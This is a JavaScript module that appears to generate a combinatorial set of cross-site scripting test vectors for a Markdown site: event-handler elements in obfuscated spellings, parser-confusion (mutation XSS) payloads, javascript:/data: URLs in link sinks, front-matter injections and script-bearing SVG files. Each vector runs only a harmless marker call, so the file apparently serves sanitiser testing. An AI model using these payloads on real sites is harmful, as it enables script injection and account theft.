// Pages of somebody who wants a script of their own to run in the site: what
// browsers run × how it is written × where it stands. Made from tables, so that
// every combination is there; each says its number where it runs.

/** What runs by itself, or when somebody does what pages are for. `%` is the script. */
const ELEMENTS = [
  '<img src=x onerror="%">',
  '<img srcset=",,,x 1x" onerror="%">',
  '<picture><source srcset="x"><img onerror="%"></picture>',
  '<svg onload="%">',
  '<svg><script>%</script></svg>',
  '<svg><g onload="%"></g></svg>',
  '<svg><animate onbegin="%" attributeName="x" dur="1s"></svg>',
  '<svg><set onbegin="%" attributeName="x" to="1"></svg>',
  '<svg><image href="x" onerror="%"></image></svg>',
  '<svg><foreignObject><img src="x" onerror="%"></foreignObject></svg>',
  '<body onload="%">',
  '<body onpageshow="%">',
  '<video src="x" onerror="%"></video>',
  '<video><source src="x" onerror="%"></video>',
  '<audio src="x" onerror="%"></audio>',
  '<input autofocus onfocus="%">',
  '<input type="image" src="x" onerror="%">',
  '<select autofocus onfocus="%"></select>',
  '<textarea autofocus onfocus="%"></textarea>',
  '<button onclick="%">b</button>',
  '<a href="#" onclick="%">a</a>',
  '<p onmouseover="%">p</p>',
  '<p onclick="%" style="position:fixed;inset:0">p</p>',
  '<div contenteditable onblur="%" tabindex="1">d</div>',
  '<details open ontoggle="%"><summary>s</summary></details>',
  '<link rel="stylesheet" href="x" onerror="%">',
  '<script>%</script>',
  '<script src="x" onerror="%"></script>',
  '<object data="x" onerror="%"></object>',
  '<iframe onload="%"></iframe>',
  '<iframe srcdoc="<script>parent.%</script>"></iframe>',
  '<embed src="x" onerror="%" onload="%">',
  '<table background="x" onclick="%"><td>t</table>',
  '<form onsubmit="%"><button>b</button></form>',
  '<dialog open oncancel="%" onclick="%">d</dialog>',
  '<style onload="%">p{}</style>',
  '<marquee onstart="%" onclick="%">m</marquee>',
  '<math><mtext><img src="x" onerror="%"></mtext></math>',
  '<custom-element onclick="%" tabindex="1">c</custom-element>',
];

/** Ways to write the same element. */
const SPELLINGS = {
  plain: (html) => html,
  capitals: (html) => html.replace(/<(\/?)([a-z-]+)|\b(on[a-z]+)=/gi, (all, end, tag, on) =>
    tag ? `<${end}${tag.toUpperCase()}` : `${on[0].toUpperCase()}${on.slice(1)}=`),
  slashes: (html) => html.replace(/<([a-z-]+) /gi, "<$1/"),
  lines: (html) => html.replace(/<([a-z-]+) /gi, "<$1\n").replace(/" (on\w+)/g, '"\n$1'),
  "form feeds": (html) => html.replace(/<([a-z-]+) /gi, "<$1\f"),
  "single quotes": (html) => html.replaceAll('"', "'"),
  entities: (html) => html.replace(/(on\w+)="([^"]*)"/g, (_, on, code) => `${on}="${numbers(code)}"`),
  "spaces around": (html) => html.replace(/(on\w+)=/g, "$1 \t= "),
  twice: (html) => html.replace(/(on\w+)=/g, "$1=$1="),
  "behind a quotation mark": (html) => html.replace(/<([a-z-]+) /i, '<$1 title="a>b" '),
  "without an end": (html) => html.replace(/>[^>]*$/, " //"),
};

/** What makes a parser and a sanitiser see two different documents. `%` as above. */
const CONFUSIONS = [
  '<noscript><p title="</noscript><img src=x onerror=%>">',
  '<title><p title="</title><img src=x onerror=%>">',
  '<textarea><p title="</textarea><img src=x onerror=%>"></textarea>',
  '<style><p title="</style><img src=x onerror=%>"></style>',
  '<xmp><p title="</xmp><img src=x onerror=%>"></xmp>',
  '<iframe><p title="</iframe><img src=x onerror=%>"></iframe>',
  '<noembed><p title="</noembed><img src=x onerror=%>"></noembed>',
  '<template><p title="</template><img src=x onerror=%>"></template>',
  '<plaintext><img src=x onerror=%>',
  '<!--><img src=x onerror=%>-->',
  '<!---><img src=x onerror=%>-->',
  '<!-- --!><img src=x onerror=%> -->',
  '<!-- a -- > <img src=x onerror=%>',
  '<![CDATA[><img src=x onerror=%>]]>',
  '<?xml ><img src=x onerror=%>?>',
  '<!DOCTYPE x [<!ENTITY y "><img src=x onerror=%>">]>',
  '<svg><![CDATA[</svg><img src=x onerror=%>]]></svg>',
  '<svg><style><img src="</style><img src=x onerror=%>"></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=%>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=%&gt;">',
  '<math><mi//xlink:href="data:x,<script>%</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=%>',
  '<svg><desc><math></svg><img src=x onerror=%></math></desc></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=%></annotation-xml></math>',
  '<select><style></select><img src=x onerror=%></style></select>',
  '<table><caption><img src=x onerror=%></table>',
  '<a><table><a><img src=x onerror=%></table>',
  '<scr<script>ipt>%</scr</script>ipt>',
  '<<img src=x onerror=%>>',
  '<img """><script>%</script>">',
  '<img src=`x` onerror=%>',
  '<img src="x` `<script>%</script>"` `>',
  '</p foo="><img src=x onerror=%>">',
  '<p id="x\u0000"onclick=%><img/src=x onerror=%>',
  '<img\u000bsrc=x onerror=%><img src=x onerror=%>',
  '&lt;img src=x onerror=%&gt;<img src=x onerror=%>',
  '<br id="</br><img src=x onerror=%>"><img src="x"onerror=%>',
  '<base href="javascript:/a/-%//"><a href="#">a</a>',
];

/** Where an address stands that is followed, or loaded. `%` is the address. */
const SINKS = [
  '<a href="%">a</a>',
  '<a href=%>a</a>',
  '<area href="%" shape="default">',
  '<form action="%"><button>b</button></form>',
  '<form><button formaction="%">b</button></form>',
  '<form><input type="submit" formaction="%"></form>',
  '<iframe src="%"></iframe>',
  '<object data="%"></object>',
  '<embed src="%">',
  '<svg><a xlink:href="%"><text y="20">a</text></a></svg>',
  '<svg><a><animate attributeName="href" values="%"/><text y="20">a</text></a></svg>',
  '<math href="%"><mi>a</mi></math>',
  '<meta http-equiv="refresh" content="0; url=%">',
  '<img src="%">',
];

/** Ways to write the address of a script. */
const ADDRESSES = [
  "javascript:%",
  "JaVaScRiPt:%",
  " javascript:%",
  "\u0001javascript:%",
  "java\tscript:%",
  "java\nscript:%",
  "java&Tab;script&colon;%",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;%",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A%",
  "javascript://a%0A%",
  "javascript:/*http://a/*/%",
  "view-source:javascript:%",
  "vbscript:%",
  "data:text/html,<script>parent.%</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.%'/>",
];

/** Links and other things that Markdown writes without HTML. `%` is an address. */
const MARKDOWN = [
  ["[a](%)", '<a href="%">a</a>'],
  ["[a](<%>)", '<a href="%">a</a>'],
  ['[a](% "t")', '<a href="%">a</a>'],
  ["[a][b]\n\n[b]: %", '<a href="%">a</a>'],
  ["<%>", '<a href="%">a</a>'],
  ["[[%]]", '<a href="%">a</a>'],
  ["[[a|%]]", '<a href="%">a</a>'],
  ["![a](%)", '<img src="%">'],
  ["[![a](x)](%)", '<a href="%">a</a>'],
  ["a[^1]\n\n[^1]: [a](%)", '<a href="%">a</a>'],
];

/** Where HTML stands in a page. `%` is the HTML; on one line where it has to be. */
const CONTEXTS = [
  "# Titolo\n\nTesto %",
  "# Titolo\n\n- %\n- b",
  "# Titolo\n\n> %",
  "# Titolo %",
  "# Titolo\n\n## Capitolo %",
  "# Titolo\n\n| a | b |\n|---|---|\n| % | b |",
  "# Titolo\n\na[^1]\n\n[^1]: %",
  "# Titolo\n\nTermine\n: %",
  "# Titolo\n\n[%](https://esempio.it)",
  "# Titolo\n\n![%](x.png)",
  "# Titolo\n\n[a](x.md '%')",
  "# Titolo\n\n```%\ncodice\n```",
  "# Titolo\n\n`%`",
  "# Titolo\n\n:::callout %\n%\n:::",
  "# Titolo\n\n:::details{title='%'}\n%\n:::",
  "# Titolo\n\n:::% \na\n:::",
  "# Titolo\n\n!!! note '%'\n    %",
  "# Titolo\n\n## Capitolo {#a onclick=%}\n\nTesto{: onclick=% }",
  "# Titolo\n\n$%$\n\n$$%$$",
  "# Titolo\n\n*[HTML]: %\n\nHTML",
  "---\ntitle: '%'\n---\nTesto",
  "---\ntitle: Titolo\nsummary: '%'\ndescription: '%'\n---\nTesto",
  "---\ntitle: Titolo\ntags: ['%']\n---\nTesto",
  "---\ntitle: Titolo\nauthor: '%'\n'%': '%'\n---\nTesto",
  "---\ntitle: Titolo\nimage: '%'\ndate: '%'\n---\nTesto",
  "---\ntitle: Titolo\nlang: '%'\naliases: ['/%']\n---\nTesto",
];

/** Elements that are put everywhere. */
const EVERYWHERE = [
  '<img src=x onerror="%">',
  "<script>%</script>",
  '"><img src=x onerror="%">',
  "</title></script></style><svg onload=%>",
  "[a](javascript:%)",
];

/** Drawings are files of their own; pages show them. */
const DRAWINGS = [
  '<svg xmlns="http://www.w3.org/2000/svg" onload="top.%"/>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>top.%</script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="top.%"/></foreignObject></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink"><a l:href="javascript:top.%"><rect width="9" height="9"/></a></svg>',
];

const numbers = (text) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join("");

/**
 * All of them: `{ page, html, drawing }`: a page in Markdown, what a program
 * that trusts its authors would make of it, and the drawing that both show.
 */
export function vectors() {
  const found = [];
  const add = (page, html, drawing) => {
    const script = `ran(${found.length})`;
    const put = (text) => text?.replaceAll("%", () => script);
    found.push({ page: put(page), html: put(html), drawing: put(drawing) });
  };
  const titled = (html) => `# Titolo\n\n${html}\n`;
  for (const element of ELEMENTS)
    for (const spell of Object.values(SPELLINGS)) add(titled(spell(element)), spell(element));
  for (const html of CONFUSIONS) add(titled(html), html);
  for (const sink of SINKS)
    for (const address of ADDRESSES) {
      const html = sink.replaceAll("%", () => address);
      add(titled(html), html);
    }
  for (const [text, html] of MARKDOWN)
    for (const address of ADDRESSES)
      add(titled(text.replaceAll("%", () => address)), html.replaceAll("%", () => address));
  for (const context of CONTEXTS)
    for (const html of EVERYWHERE) {
      const here = context.startsWith("---") ? html.replaceAll("'", "''") : html;
      add(context.replaceAll("%", () => here), html);
    }
  for (const drawing of DRAWINGS) {
    const html = '<img src="drawing.svg"><object data="drawing.svg"></object><iframe src="drawing.svg"></iframe>';
    add(titled(`![a](drawing.svg)\n\n${html}`), html, drawing);
  }
  return found;
}
